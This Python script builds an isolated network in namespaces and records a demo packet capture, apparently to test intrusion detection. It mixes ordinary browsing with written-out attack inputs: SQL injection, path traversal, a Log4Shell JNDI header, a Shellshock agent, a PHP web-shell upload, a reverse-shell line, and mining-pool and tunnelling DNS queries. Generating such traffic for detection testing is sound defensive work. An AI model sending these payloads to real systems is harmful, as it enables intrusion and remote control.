#!/usr/bin/env python3
"""Makes demo.pcap: a few minutes of a small network, with attacks among ordinary requests.

Run as root: two network namespaces are made, a web server, a name server and a bare TCP listener run in one,
curl and Python clients in the other, and every frame between them is recorded. Nothing leaves the namespaces.
Addresses are from the documentation ranges.
"""
import os, socket, struct, subprocess, sys, time

CLIENT, SERVER = "ids-demo-client", "ids-demo-server"
SERVER_ADDR = "198.51.100.20"
HERE = os.path.dirname(os.path.abspath(__file__))
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"

WEB = r'''
import http.server, os, sys
class Web(http.server.SimpleHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        if "passwd" in self.path:
            return self.answer(200, "text/plain", b"root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n")
        if self.path.startswith("/download/update"):
            return self.answer(200, "application/octet-stream", b"\x7fELF\x02\x01\x01" + bytes(2000))
        if self.path.split("?")[0] not in ("/", "/index.html", "/style.css", "/news.html"):
            return self.answer(404, "text/html", b"<html><title>Not found</title></html>")
        body = ("<html><title>Shop</title><body>" + "All goods in one place. " * 200 + "</body></html>").encode()
        self.answer(200, "text/html", body)
    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.answer(200, "text/html", b"<html>thanks</html>")
    def answer(self, code, kind, body):
        self.send_response(code)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *_): pass
http.server.ThreadingHTTPServer(("198.51.100.20", 80), Web).serve_forever()
'''

NAMES = r'''
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("198.51.100.20", 53))
while True:
    q, peer = s.recvfrom(2048)
    known = b"\x04shop" in q or b"pool" in q
    kind = q[q.index(0, 12) + 1:][:2]
    if known and kind == b"\0\1":
        s.sendto(q[:2] + b"\x81\x80" + q[4:6] + b"\0\1\0\0\0\0" + q[12:q.index(0, 12) + 5]
                 + b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4" + bytes([198, 51, 100, 20]), peer)
    else:
        s.sendto(q[:2] + b"\x81\x83" + q[4:6] + b"\0\0\0\0\0\0" + q[12:q.index(0, 12) + 5], peer)
'''

LISTENER = r'''
import socket
s = socket.create_server(("198.51.100.20", 4444))
while True:
    c, _ = s.accept()
    c.sendall(b"bash -i >& /dev/tcp/198.51.100.20/4444 0>&1\n")
    c.recv(4096); c.close()
'''

ASK = r'''
import socket, struct, sys
name, kind = sys.argv[1], int(sys.argv[2])
q = struct.pack(">HHHHHH", abs(hash(name)) & 0xffff, 0x0100, 1, 0, 0, 0)
q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", kind, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
s.sendto(q, ("198.51.100.20", 53)); s.recv(2048)
'''

SHELL = r'''
import socket
s = socket.create_connection(("198.51.100.20", 4444)); s.recv(4096)
s.sendall(b"uid=0(root) gid=0(root) groups=0(root)\n"); s.close()
'''


def run(*words, check=True):
    return subprocess.run(words, check=check, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def inside(namespace, *words, **more):
    return subprocess.Popen(["ip", "netns", "exec", namespace, *words], **more)


def build():
    tear_down()
    run("ip", "netns", "add", CLIENT)
    run("ip", "netns", "add", SERVER)
    run("ip", "link", "add", "demo0", "netns", CLIENT, "type", "veth", "peer", "name", "demo1", "netns", SERVER)
    for namespace, device, addresses in ((CLIENT, "demo0", ["192.0.2.10/24", "203.0.113.66/24"]),
                                         (SERVER, "demo1", [SERVER_ADDR + "/24"])):
        for address in addresses:
            run("ip", "-n", namespace, "addr", "add", address, "dev", device)
        run("ip", "-n", namespace, "link", "set", device, "up")
        run("ip", "-n", namespace, "link", "set", "lo", "up")
        run("ip", "netns", "exec", namespace, "ethtool", "-K", device, "tx", "off", "tso", "off", "gso", "off", "gro", "off")
    run("ip", "-n", CLIENT, "route", "add", "198.51.100.0/24", "dev", "demo0")
    run("ip", "-n", SERVER, "route", "add", "192.0.2.0/24", "dev", "demo1")
    run("ip", "-n", SERVER, "route", "add", "203.0.113.0/24", "dev", "demo1")


def tear_down():
    for namespace in (CLIENT, SERVER):
        run("ip", "netns", "del", namespace, check=False)


def record(path):
    """Runs inside the server's namespace: writes every frame of demo1 until it is told to stop."""
    taker = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    taker.bind(("demo1", 0))
    with open(path, "wb") as out:
        out.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
        print("ready", flush=True)
        while True:
            frame = taker.recv(65535)
            now = time.time()
            out.write(struct.pack("<IIII", int(now), int(now % 1 * 1e6), len(frame), len(frame)) + frame)
            out.flush()


def traffic():
    def curl(path, *flags, source="192.0.2.10", agent=BROWSER):
        words = ["curl", "-s", "-o", "/dev/null", "--path-as-is", "--interface", source, "-A", agent, *flags,
                 "http://%s%s" % (SERVER_ADDR, path)]
        inside(CLIENT, *words).wait()

    def ask(name, kind=1):
        inside(CLIENT, sys.executable, "-c", ASK, name, str(kind)).wait()

    evil = dict(source="203.0.113.66")
    run("ip", "netns", "exec", CLIENT, "ping", "-c", "3", "-i", "0.2", SERVER_ADDR)
    ask("shop.example")
    for page in ("/", "/style.css", "/news.html", "/index.html?page=2"):
        curl(page)
    curl("/", agent="sqlmap/1.8.4#stable (https://sqlmap.org)", **evil)
    curl("/item?id=1%20union%20all%20select%20login,password%20from%20users", **evil)
    curl("/view?file=../../../../etc/passwd", **evil)
    curl("/", "-H", "X-Api-Version: ${jndi:ldap://203.0.113.66:1389/a}", **evil)
    curl("/cgi-bin/status", agent="() { :; }; /bin/bash -c id", **evil)
    curl("/news.html")
    curl("/.git/config", **evil)
    curl("/upload.php", "-d", "x=<?php system($_GET['c']); ?>", **evil)
    curl("/contact", "-d", "name=Ann&text=Where+is+my+order")
    curl("/download/update", agent="curl/8.5.0")
    ask("pool.supportxmr.com")
    ask("k7f3q9x2m4p8w1z6c5v0b2n7h3j9d4s8a6g1t5r0y2u8i4o7.a1b2c3d4e5f6.t.example", 16)
    inside(CLIENT, sys.executable, "-c", SHELL).wait()
    for page in ("/", "/style.css", "/news.html"):
        curl(page)


def main():
    if len(sys.argv) == 3 and sys.argv[1] == "--record":
        return record(sys.argv[2])
    target = os.path.join(HERE, "demo.pcap")
    build()
    servers = []
    try:
        for program in (WEB, NAMES, LISTENER):
            servers.append(inside(SERVER, sys.executable, "-c", program))
        taker = inside(SERVER, sys.executable, os.path.abspath(__file__), "--record", target, stdout=subprocess.PIPE)
        servers.append(taker)
        taker.stdout.readline()
        time.sleep(1)
        traffic()
        time.sleep(1)
    finally:
        for server in servers:
            server.kill()
        tear_down()
    print("%s: %d bytes" % (target, os.path.getsize(target)))


main()
